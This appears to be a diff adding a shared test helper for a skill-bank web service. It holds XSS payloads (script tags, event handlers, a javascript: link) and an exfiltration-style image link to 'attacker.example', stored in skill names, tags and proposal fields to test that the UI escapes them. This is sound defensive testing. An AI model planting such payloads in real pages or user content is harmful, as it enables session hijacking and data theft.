@@ -1,0 +1,47 @@
+"""Shared by the serve tests: the XSS payloads and a bank holding them."""
+
+from __future__ import annotations
+
+import re
+
+from skillbank.evolution.review import save_pending
+from skillbank.models import SkillStatus
+
+TOKEN = "test-token-0123456789"
+PAYLOADS = [
+    "<script>alert('xss-script')</script>",
+    "<img src=x onerror=alert('xss-img')>",
+    "[click](javascript:alert('xss-link'))",
+    "![exfil](https://attacker.example/steal?d=secret)",
+    "\"><svg onload=alert('xss-svg')>",
+]
+BODY = "Check the order id before refunding.\n" + "\n".join(PAYLOADS)
+# Skill names are validated (lower-case, digits, hyphens), so a name cannot carry markup; the
+# name a pending proposal records, its reason and its source are free text and do.
+EVIL_NAME = "refund<script>alert('xss-name')</script>"
+EVIL_TAG = "<b onmouseover=alert('xss-tag')>tag</b>"
+
+
+def fill(bank):
+    """A plain skill with two versions, a skill whose name/tags/body carry payloads, a candidate
+    and a draft edit of the plain skill; returns their ids."""
+    plain = bank.add_skill("lookup-order", "Look an order up first.", "Call get_order with the id.",
+                           tags=["orders"], tools=["get_order"])
+    bank.update_skill(plain.id, reason="clearer", body="Call get_order with the order id.")
+    evil = bank.add_skill("refund-order", "Refunds <i>now</i>", BODY, tags=[EVIL_TAG], allow_unsafe=True)
+    cand = bank.add_skill("cancel-order", "Cancel an order.", "Call cancel_order once.",
+                          status=SkillStatus.candidate, author="evolution:rule")
+    save_pending(bank, cand.id, {"kind": "add", "evidence": ["tr_0123456789abcdef"], "task_ids": ["t1"],
+                                 "reason": "seen in 3 runs <script>x</script>", "author": "evolution:rule",
+                                 "round": 1, "name": "cancel-order"})
+    odd = bank.add_skill("odd-proposal", "Odd.", BODY, status=SkillStatus.candidate, allow_unsafe=True)
+    save_pending(bank, odd.id, {"kind": "add", "evidence": [], "task_ids": [], "reason": PAYLOADS[1],
+                                "author": PAYLOADS[4], "round": 2, "name": EVIL_NAME})
+    return {"plain": plain.id, "evil": evil.id, "cand": cand.id, "odd": odd.id}
+
+
+def csrf_and_version(html: str, action: str) -> dict[str, str]:
+    """The hidden fields of the form posting to ``action`` on a page."""
+    form = html[html.index(f'action="{action}"'):]
+    form = form[:form.index("</form>")]
+    return dict(re.findall(r'name="(csrf|drawn_version|to_version|pinned)" value="([^"]*)"', form))
